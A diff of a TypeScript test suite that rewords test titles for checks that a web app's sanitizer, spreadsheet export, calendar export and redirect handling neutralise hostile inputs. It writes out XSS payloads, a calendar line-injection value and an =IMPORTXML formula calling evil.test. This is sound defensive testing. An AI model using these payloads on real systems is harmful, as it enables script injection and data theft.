@@ -43,14 +43,14 @@ function asMarkup(html: string): string[] {
 const failing = (texts: readonly string[], wrong: (text: string) => unknown) => texts.filter((text) => wrong(text))
 
 describe(`${payloads.length} payloads`, () => {
-  it('are two hundred and more, each another one, and what looks for them finds those that browsers would run', () => {
+  it('are at least two hundred different ones, and the detector finds those that browsers would execute', () => {
     expect(new Set(payloads).size).toBeGreaterThanOrEqual(200)
     expect(asMarkup('<img src=x onerror=alert(1)>')).toHaveLength(1)
     expect(asMarkup('<a href=" java\nscript:alert(1)">x</a>')).toHaveLength(1)
     expect(payloads.filter((payload) => asMarkup(payload).length > 0).length).toBeGreaterThan(150)
   })
 
-  it('leave nothing that acts in a message or note, as it is read', () => {
+  it('leave nothing active in a rendered message or note', () => {
     const acting = failing(payloads, (payload) => {
       document.body.replaceChildren()
       render(<RichText html={`<p>甲</p>${payload}<p>乙</p>`} />)
@@ -61,16 +61,16 @@ describe(`${payloads.length} payloads`, () => {
     expect(acting).toEqual([])
   })
 
-  it('leave nothing that acts in formatted text, as it is typed, pasted and kept', () => {
+  it('leave nothing active in formatted text when typed, pasted and stored', () => {
     expect(failing(payloads, (payload) => asMarkup(sanitizeRichText(payload)).length > 0)).toEqual([])
   })
 
-  it('are text where markup is read as text', () => {
+  it('are text where markup is shown as text', () => {
     render(<p>{payloads.map(htmlText).join(' ')}</p>)
     expect(whatCouldRun(document)).toEqual([])
   })
 
-  it('stay the words they are in a cell that is pasted and copied', () => {
+  it('stay unchanged in a cell that is pasted and copied', () => {
     const html = `<table>${payloads.map((payload) => `<tr><td>${payload}</td></tr>`).join('')}</table>`
     const cells = parseBlock({ text: '', html })?.flat() ?? []
     render(<pre>{cells.join('\n')}</pre>)
@@ -78,7 +78,7 @@ describe(`${payloads.length} payloads`, () => {
     expect(failing(payloads, (payload) => asMarkup(clipboardOf([[payload]]).html).length > 0)).toEqual([])
   })
 
-  it('stay the words they are in a workbook', async () => {
+  it('stay unchanged in a workbook', async () => {
     const head = { head: payloads[0] ?? '', width: 9 }
     const sheet = { name: '表', columns: [head], rows: payloads.map((payload) => [payload]) }
     const file = new File([await workbook([sheet]).toBlob()], 'a.xlsx')
@@ -88,7 +88,7 @@ describe(`${payloads.length} payloads`, () => {
     expect(cells.map(plain)).toEqual(payloads.map(plain))
   })
 
-  it('begin no line and no other entry of a calendar', () => {
+  it('start no new line and no other entry in a calendar file', () => {
     const words = [
       ...payloads,
       'a\r\nEND:VEVENT\r\nBEGIN:VEVENT',
@@ -112,7 +112,7 @@ describe(`${payloads.length} payloads`, () => {
     ).toEqual([])
   })
 
-  it('name a file by what every system takes, and are never shown by the browser as a document', () => {
+  it('become file names every system accepts, and are never displayed by the browser as a document', () => {
     const named = payloads.map((payload) => fileName(payload, 'xlsx'))
     // biome-ignore lint/suspicious/noControlCharactersInRegex: just these a name may not have
     expect(named.filter((name) => /[\\/:*?"<>|\u0000-\u001f]/.test(name) || name.length > 90)).toEqual([])
@@ -152,7 +152,7 @@ const readings: Record<string, (values: FormValues, definition: FormSource) => R
   ),
 }
 
-it.each(Object.entries(readings))('in every answer and every word of a form, read %s, nothing acts', (_, read) => {
+it.each(Object.entries(readings))('as every response and every text of a form, in %s, execute nothing', (_, read) => {
   const acting: string[] = []
   for (let first = 0; first < payloads.length; first += 40) {
     render(read(withHostileTexts(answers, first), withHostileTexts(kindsSample, first)))
@@ -177,7 +177,7 @@ const formulas = [
   '=IMPORTXML("https://evil.test","//a")',
 ]
 
-it.each(formulas)('%j is a text in a workbook, never a formula', async (cell) => {
+it.each(formulas)('%j is text in a workbook, never a formula', async (cell) => {
   const sheet = {
     name: '表',
     columns: [
@@ -191,8 +191,8 @@ it.each(formulas)('%j is a text in a workbook, never a formula', async (cell) =>
   expect(row?.map((text) => text.trim())).toEqual([cell.trim(), cell.trim()])
 })
 
-describe(`${foreignAddresses.length} addresses that lead elsewhere`, () => {
-  it('are sixty and more, and lead nowhere from whatever takes an address', () => {
+describe(`${foreignAddresses.length} foreign addresses`, () => {
+  it('are at least sixty, and every part that accepts an address refuses them', () => {
     expect(new Set(foreignAddresses).size).toBeGreaterThanOrEqual(60)
     const taken = failing(foreignAddresses, (address) => {
       const query = (name: string) => `?${new URLSearchParams({ [name]: address })}`
@@ -217,7 +217,7 @@ describe(`${foreignAddresses.length} addresses that lead elsewhere`, () => {
     expect(taken).toEqual([])
   })
 
-  it('are taken where this table says, and through what was tried above; an entry more is one to be tried', () => {
+  it('are accepted only in the places of this table, each of which is tested', () => {
     const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((file) =>
       /(?<!test)\.tsx?$/.test(file),
     )
@@ -244,7 +244,7 @@ describe(`${foreignAddresses.length} addresses that lead elsewhere`, () => {
     ])
   })
 
-  it('are no answer of another platform, and no system to sign in for unless they are of the web', () => {
+  it('are no response of another platform, and no external system unless they are web addresses', () => {
     expect(
       foreignAddresses.filter(
         (address) => judgeArrival(`?${new URLSearchParams({ code: address, state: 's' })}`, null).kind === 'code',
